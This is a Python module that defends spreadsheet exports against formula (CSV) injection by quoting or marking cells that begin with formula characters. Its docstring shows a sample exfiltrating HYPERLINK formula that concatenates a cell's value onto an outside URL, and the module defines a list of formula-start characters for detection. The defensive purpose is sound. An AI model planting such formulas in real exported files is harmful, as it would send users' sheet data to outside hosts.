"""Text cells a spreadsheet would run as a formula, written as text (formula or CSV injection).

A spreadsheet program reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or
carriage return before one) as a formula: a person named ``=HYPERLINK("https://...?"&A1,"Open")``
would become a live link that sends the sheet's data away when clicked. Following OWASP's
guidance on CSV injection, every text cell the product writes that starts with one of those
characters is written as text:

* in a CSV file, with a single quote before it (``'=HYPERLINK(...)``), which spreadsheets take
  as "this cell is text" and do not show; a plain number (``-3.5``) is left as it is;
* in a workbook, as a string cell marked as text (``quotePrefix``), whatever its first character:
  Excel and LibreOffice show it as typed and keep it text when it is edited.

The product's own CSV readers take the quote off again (:func:`from_csv`), so a file the product
wrote reads back exactly.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make a spreadsheet read a cell as a formula (OWASP)."""

_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def is_risky(text: str) -> bool:
    """Whether a spreadsheet would read ``text`` as a formula (a plain number is not one)."""
    return text.startswith(FORMULA_START) and _NUMBER.match(text) is None


def to_csv(value: object) -> object:
    """A value for a CSV cell: risky text gets a single quote before it; anything else is as given."""
    if isinstance(value, str) and is_risky(value):
        return "'" + value
    return value


def from_csv(text: str) -> str:
    """A CSV cell as the product wrote it, read back: the quote :func:`to_csv` added is taken off."""
    if text.startswith("'") and is_risky(text[1:]):
        return text[1:]
    return text


def csv_row(values: Iterable[object]) -> list[object]:
    """A row for ``csv.writer`` with every risky text cell written as text."""
    return [to_csv(v) for v in values]


def protect_workbook(book: Any) -> int:
    """Mark every string cell of an openpyxl workbook that starts like a formula as text (its type
    ``s``, so it is no formula, and ``quotePrefix``, so an edit keeps it text). Returns how many.

    openpyxl makes any string that starts with ``=`` a formula; the product writes no formulas,
    so every such cell is someone's text."""
    marked = 0
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and value.startswith(FORMULA_START):
                    cell.data_type = "s"
                    cell.quotePrefix = True
                    marked += 1
    return marked
